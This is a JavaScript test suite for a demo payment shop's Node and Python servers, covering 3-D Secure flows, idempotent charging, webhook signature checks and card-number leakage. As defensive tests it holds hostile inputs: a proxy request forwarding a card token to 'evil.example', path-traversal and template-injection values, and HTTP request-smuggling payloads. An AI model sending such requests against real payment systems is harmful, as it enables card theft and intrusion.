// Purchases in the demo shop, with each of its servers.

import assert from "node:assert/strict";
import { after, before } from "node:test";

import {
  enterCode, fill, issuer, pay, payAndRead, picture, problem, receipt, retype, startBrowser, violations, withPage,
} from "./cardholder.mjs";
import { charges, conversions, eventOf, intentAndSession, order, orders, parts, sign } from "./merchant.mjs";
import { OUTCOMES, startVault } from "./outcomes.mjs";
import { request, startServer, statusesOf } from "./server.mjs";
import { ask, attempt, shop } from "./vault.mjs";

/** Without long runs of zeros, so that nine digits in a row are found nowhere by accident. */
const FRICTIONLESS = "4539148803436467";
const CHALLENGE = "4761369980320253";
const NOT_AUTHENTICATED = "4264281511112228";
const CHALLENGE_FAILS = "5427660064241339";
const DECLINED = "4000000000000002";
const WITHOUT_THREEDS = "4264281500001119";
const CODE = "1234";

const VAULT = `https://${shop.environment.VAULT_HOST}`;
const POLICY = [
  "default-src 'none'", `script-src 'self' ${VAULT}/web-elements/`, `frame-src ${VAULT}`, `connect-src 'self' ${VAULT}`,
  "style-src 'self'", "style-src-attr 'unsafe-inline'", "img-src 'self'", "form-action 'self'", "base-uri 'none'", "frame-ancestors 'none'",
].join("; ");

let browser;
before(async () => {
  browser = await startBrowser();
});
after(() => browser?.close());

for (const language of ["node", "python"]) {
  let server;
  let tokenId;
  after(() => server?.stop());
  /** Everything that pages received. */
  const received = [];
  const visit = async (body, options) => received.push(await withPage(browser, body, options));
  const test = (tried, body) =>
    attempt(language, tried, async () => {
      try {
        await body();
      } catch (error) {
        error.message += `\n${server?.log().slice(-500)}`;
        throw error;
      }
    });

  test("the server starts, and its page allows scripts and frames of the vault only", async () => {
    server = await startServer(language);
    const { headers } = await fetch(`http://127.0.0.1:${shop.environment.PORT}/`);
    assert.equal(headers.get("content-security-policy"), POLICY);
    assert.equal(headers.get("cache-control"), "no-store");
    assert.equal(headers.get("referrer-policy"), "no-referrer");
    assert.equal(headers.get("x-content-type-options"), "nosniff");
  });

  test("frictionless: paid, and the webhook says that the card is saved", async () => {
    let id;
    await visit(async (page) => {
      await fill(page, FRICTIONLESS);
      ({ id } = await payAndRead(page));
      await receipt(page, "Thank you. Your order is paid.");
      await receipt(page, `Ending in ${FRICTIONLESS.slice(-4)}`);
      await receipt(page, "Ready for your next order");
    });
    const event = await eventOf(server, id);
    assert.equal(event.type, "token.created");
    tokenId = event.data.token.id;
    assert.equal((await ask(`/tokens/${tokenId}`)).body.data.number, FRICTIONLESS);
  });

  test("challenge: paid once after the right code, even if the page repeats its request", async () => {
    let id;
    const before = charges(server).length;
    const converted = conversions(server);
    await visit(async (page) => {
      await page.route("**/orders/*/challenge", async (route) => {
        const path = new URL(route.request().url()).pathname;
        await Promise.all(Array.from({ length: 8 }, () => request(path, { body: {} })));
        await route.continue();
      });
      await fill(page, CHALLENGE);
      ({ id } = await payAndRead(page));
      await enterCode(page, CODE);
      await receipt(page, "Thank you. Your order is paid.");
      await receipt(page, "Ready for your next order");
    });
    const [charge, ...more] = charges(server).slice(before);
    assert.deepEqual(more, []);
    assert.equal(conversions(server) - converted, 1);
    assert.equal(charge.reference, id);
    assert.match(charge.source.number, /^\{\{ [0-9a-f-]{36} \| json: '\$\.number' \}\}$/);
    assert.equal(charge["3ds"].eci, "05");
    assert.ok(charge["3ds"].cryptogram && charge["3ds"].xid && charge["3ds"].version);
  });

  test("a lost response: the page shows the order, which is charged once", async () => {
    const before = charges(server).length;
    const processed = async (route) => {
      const { pathname } = new URL(route.request().url());
      await request(pathname, { body: route.request().postDataJSON() });
      await route.abort();
    };
    for (const [path, number] of [["**/orders", FRICTIONLESS], ["**/orders/*/challenge", CHALLENGE]]) {
      await visit(
        async (page) => {
          await page.route(path, processed);
          await fill(page, number);
          await pay(page);
          if (number === CHALLENGE) {
            await enterCode(page, CODE);
          }
          await receipt(page, "Thank you. Your order is paid.");
        },
        { expected: ["ERR_FAILED"] },
      );
    }
    assert.equal(charges(server).length - before, 2);
  });

  test("a lost request: paying again sends the same order, which is charged once", async () => {
    const before = charges(server).length;
    const lost = [];
    await visit(
      async (page) => {
        await page.route("**/orders", async (route) => {
          lost.push(route.request().postDataJSON());
          await route.abort();
        }, { times: 1 });
        await fill(page, FRICTIONLESS);
        await pay(page);
        await problem(page, "We could not reach the shop.");
        const { id } = await payAndRead(page);
        await receipt(page, "Thank you. Your order is paid.");
        assert.equal(lost[0].id, id);
        // The lost request arrives late.
        assert.deepEqual((await request("/orders", { body: lost[0] })).body.id, id);
      },
      { expected: ["ERR_FAILED", "status of 404"] },
    );
    assert.equal(charges(server).length - before, 1);
  });

  test("concurrent requests with one id are one order, which is charged once", async () => {
    const before = charges(server).length;
    const body = order(await intentAndSession(FRICTIONLESS));
    await Promise.all(Array.from({ length: 8 }, () => request("/orders", { body })));
    assert.equal((await request("/orders", { body })).body.state, "paid");
    const [charge, ...more] = charges(server).slice(before);
    assert.equal(charge.reference, body.id);
    assert.deepEqual(more, []);
  });

  test("declined: told in plain words, not kept, and another card works", async () => {
    await visit(async (page) => {
      await fill(page, DECLINED);
      const { id } = await payAndRead(page);
      await problem(page, "Your card was declined, and you were not charged.");
      const { data } = await eventOf(server, id);
      assert.equal((await ask(`/tokens/${data.token.id}`)).status, 404);

      await retype(page, FRICTIONLESS);
      await pay(page);
      await receipt(page, "Thank you. Your order is paid.");
    });
  });

  test("not authenticated, and a card without 3-D Secure: told in plain words, and nothing is charged", async () => {
    const before = charges(server).length;
    const rejected = "Your bank did not confirm this payment, and you were not charged.";
    await visit(
      async (page) => {
        await fill(page, NOT_AUTHENTICATED);
        await pay(page);
        await problem(page, rejected);

        await retype(page, CHALLENGE_FAILS);
        await pay(page);
        await enterCode(page, CODE);
        await problem(page, rejected);

        await retype(page, CHALLENGE);
        await pay(page);
        await issuer(page).getByRole("button", { name: "Cancel" }).click();
        await problem(page, rejected);

        await retype(page, WITHOUT_THREEDS);
        await pay(page);
        await problem(page, "This card cannot be confirmed online, and you were not charged.");
      },
      { expected: ["status of 424"] },
    );
    assert.equal(charges(server).length, before);
  });

  test("missing and wrong details are shown at their fields, and nothing is sent", async () => {
    const before = orders(server);
    await visit(async (page) => {
      await pay(page);
      for (const text of ["Enter the name on your card.", "Enter an email address", "Enter the whole card number.", "Enter month and year.", "Enter the security code."]) {
        await page.getByText(text).waitFor();
      }
      assert.equal(await page.evaluate(() => document.activeElement.id), "name");
      await fill(page, "4242424242424241", { date: "0120", code: "12" });
      await pay(page);
      for (const text of ["This card number is not valid.", "This date is not valid or has passed.", "Enter the security code."]) {
        await page.getByText(text).waitFor();
      }
    });
    assert.equal(orders(server), before);
  });

  test("a session of another card is not accepted", async () => {
    const mine = await intentAndSession(FRICTIONLESS);
    const stolen = await intentAndSession(CHALLENGE);
    const before = charges(server).length;
    const { body } = await request("/orders", { body: order({ ...stolen, session_id: mine.session_id }) });
    assert.equal(body.state, "not_authenticated");
    assert.equal(charges(server).length, before);
  });

  test("one intent pays one order", async () => {
    const first = await intentAndSession(FRICTIONLESS);
    assert.equal((await request("/orders", { body: order(first) })).body.state, "paid");
    const before = charges(server).length;
    assert.notEqual((await request("/orders", { body: order(first) })).body.state, "paid");
    assert.equal(charges(server).length, before);
  });

  test("a request with anything but ids is rejected", async () => {
    const valid = { token_intent_id: crypto.randomUUID(), session_id: crypto.randomUUID() };
    for (const wrong of [
      { token_intent_id: "{{ x }}" }, { session_id: "../../tokens" }, { name: "" }, { name: "x".repeat(46) }, { email: "ada" },
      { email: undefined }, { name: 1 }, { id: undefined }, { id: "1" }, { id: ["x"] }, { token_intent_id: null }, { session_id: [valid.session_id] },
    ]) {
      const { status, body } = await request("/orders", { body: order({ ...valid, ...wrong }) });
      assert.deepEqual([status, body], [400, { error: "invalid" }], JSON.stringify(wrong));
    }
    assert.equal((await request("/orders", { body: order({ padding: "x".repeat(70_000) }) })).status, 413);
    assert.equal((await request(`/orders/${crypto.randomUUID()}`, { method: "GET" })).status, 404);
    assert.equal((await request("/../server/node/main.mjs", { method: "GET" })).status, 404);
    assert.equal((await request("/__proto__", { method: "GET" })).status, 404);
    assert.equal((await request("/orders/x?number=4242424242424242", { method: "GET" })).status, 404);
    assert.ok(!server.log().includes("4242424242424242"));
    // Unknown ids are an error of the vault's API, and a failed order here.
    assert.equal((await request("/orders", { body: order(valid) })).body.state, "failed");
  });

  test("a webhook without a valid and recent signature is rejected", async () => {
    const paid = (await request("/orders", { body: order(await intentAndSession(FRICTIONLESS)) })).body;
    const event = { type: "token.created", data: { token: { metadata: { order_id: paid.id } } } };
    const body = { event };
    const now = Math.floor(Date.now() / 1000);
    for (const [why, headers] of [
      ["no signature", {}],
      ["another secret", sign(body, now, "whsec_c2VjcmV0")],
      ["old", sign(body, now - 600)],
      ["future", sign(body, now + 600)],
      ["another body", sign({ event: {} }, now)],
      ["no time", { ...sign(body, now), "webhook-timestamp": "" }],
    ]) {
      assert.equal((await request("/webhooks", { headers, body })).status, 401, why);
    }
    assert.equal((await request("/webhooks", { headers: sign(body, now), body })).status, 204);
    const other = { event: { type: "token.created", data: { token: { metadata: null } } } };
    assert.equal((await request("/webhooks", { headers: sign(other, now), body: other })).status, 204);
  });

  test("the body of a request is not parsed as another request", async () => {
    const inner = "GET /settings.json HTTP/1.1\r\nHost: shop\r\n\r\n";
    const chunked = `${inner.length.toString(16)}\r\n${inner}\r\n0\r\n\r\n`;
    for (const outer of [
      `GET /icon.svg HTTP/1.1\r\nHost: shop\r\nContent-Length: ${inner.length}\r\n\r\n${inner}`,
      `GET /icon.svg HTTP/1.1\r\nHost: shop\r\nTransfer-Encoding: chunked\r\n\r\n${chunked}`,
      `POST /webhooks HTTP/1.1\r\nHost: shop\r\nTransfer-Encoding: chunked\r\n\r\n${chunked}`,
      `POST /webhooks HTTP/1.1\r\nHost: shop\r\nContent-Length: 0\r\nTransfer-Encoding: chunked\r\n\r\n${chunked}`,
      `POST /webhooks HTTP/1.1\r\nHost: shop\r\nContent-Length: 0\r\nContent-Length: ${inner.length}\r\n\r\n${inner}`,
    ]) {
      assert.equal((await statusesOf(outer)).length, 1, outer);
    }
    assert.deepEqual(await statusesOf(inner + inner), [200, 200]);
  });

  test("the server's key cannot read a card, and sends it to the processor only", async () => {
    const { VAULT_PRIVATE_KEY: key, VAULT_PUBLIC_KEY: publicKey } = shop.environment;
    for (const one of [key, publicKey]) {
      assert.equal((await ask(`/tokens/${tokenId}`, { key: one })).status, 403);
    }
    const elsewhere = await fetch(`${process.env.BT_API_URL}/proxy/x`, {
      method: "POST",
      headers: { "BT-API-KEY": key, "BT-PROXY-URL": "https://evil.example", "Content-Type": "application/json" },
      body: JSON.stringify({ number: `{{ ${tokenId} }}` }),
    });
    assert.equal(elsewhere.status, 403);
    const charge = (method, path, body) =>
      fetch(`${process.env.BT_API_URL}/proxy${path}`, {
        method,
        headers: { "BT-API-KEY": key, "BT-PROXY-KEY": shop.environment.PROXY_KEY, "Content-Type": "application/json" },
        body: body && JSON.stringify(body),
      });
    const number = `{{ ${tokenId} | json: '$.number' }}`;
    for (const other of [
      charge("POST", "/payments", { source: { type: "card", number }, reference: `{{ ${tokenId} | json: '$.cvc' }}` }),
      charge("POST", "/payments", { source: { type: "card", number, name: number } }),
      charge("POST", "/payments/pay_1/refunds", {}),
      charge("GET", "/payments"),
    ]) {
      assert.equal((await other).status, 403);
    }
  });

  test("the number is in nothing that page, server, log and webhook received", () => {
    const places = {
      page: received.join("\n"),
      "browsers and webhooks to the server": server.toShop.text(),
      "the server and the vault": server.toVault.text(),
      log: server.log(),
    };
    for (const [place, text] of Object.entries(places)) {
      assert.ok(text.length > 1000, `${place} was recorded`);
      for (const number of [FRICTIONLESS, CHALLENGE, NOT_AUTHENTICATED]) {
        assert.deepEqual(parts(number).filter((part) => text.includes(part)), [], place);
      }
      assert.ok(!text.includes('"739"'), place);
    }
    // The search finds what is there.
    const secret = shop.environment.WEBHOOK_SECRET;
    assert.deepEqual(server.memoryContains([secret, FRICTIONLESS, CHALLENGE, NOT_AUTHENTICATED]), [secret]);
  });

  test("an unknown outcome is pending, and only a card that was not charged is deleted", async () => {
    await server.stop();
    const vault = await startVault();
    after(vault.close);
    server = await startServer(language, { VAULT_API_URL: vault.url });
    for (const [response, expected] of OUTCOMES) {
      Object.assign(vault, { response, deleted: 0 });
      const { body } = await request("/orders", { body: order(await intentAndSession(FRICTIONLESS)) });
      assert.equal(body.state, expected, JSON.stringify(response));
      assert.equal(vault.deleted, ["declined", "failed"].includes(expected) ? 1 : 0, JSON.stringify(response));
    }
    await withPage(browser, async (page) => {
      await fill(page, FRICTIONLESS);
      await pay(page);
      await receipt(page, "We are checking your payment.");
      await receipt(page, "Please do not pay again.");
    });
  });

  test("too many attempts: told in plain words", async () => {
    await server.stop();
    server = await startServer(language, { ATTEMPTS_MAX: "1" });
    await withPage(
      browser,
      async (page) => {
        await fill(page, NOT_AUTHENTICATED);
        await pay(page);
        await problem(page, "Your bank did not confirm this payment");
        await pay(page);
        await problem(page, "There were too many attempts.");
      },
      { expected: ["status of 429"] },
    );
    await server.stop();
  });
}

const LOOKS = [
  { name: "phone-light", viewport: { width: 390, height: 844 }, colorScheme: "light" },
  { name: "phone-dark", viewport: { width: 390, height: 844 }, colorScheme: "dark" },
  { name: "desktop-light", viewport: { width: 1280, height: 900 }, colorScheme: "light" },
  { name: "desktop-dark", viewport: { width: 1280, height: 900 }, colorScheme: "dark" },
];

attempt("page", "axe finds nothing serious, on phone and desktop, light and dark", async () => {
  const server = await startServer("node");
  try {
    await Promise.all(LOOKS.map(({ name, ...options }) => withPage(browser, (page) => look(page, name), options)));
  } finally {
    await server.stop();
  }
});

/** Goes through all states of the page. */
async function look(page, name) {
  const check = async (state) => {
    await picture(page, `${name}-${state}`);
    assert.deepEqual(await violations(page), [], `${name} ${state}`);
    const width = await page.evaluate(() => document.documentElement.scrollWidth - innerWidth);
    assert.ok(width <= 0, `${name} ${state}: the page is ${width} pixels too wide`);
  };
  await check("empty");
  await pay(page);
  await page.getByText("Enter the whole card number.").waitFor();
  await check("errors");
  await fill(page, DECLINED);
  await check("filled");
  await pay(page);
  await problem(page, "Your card was declined");
  await check("declined");
  await retype(page, CHALLENGE);
  await pay(page);
  await issuer(page).locator("#code").waitFor();
  await check("challenge");
  await enterCode(page, CODE);
  await receipt(page, "Ready for your next order");
  await check("receipt");
}
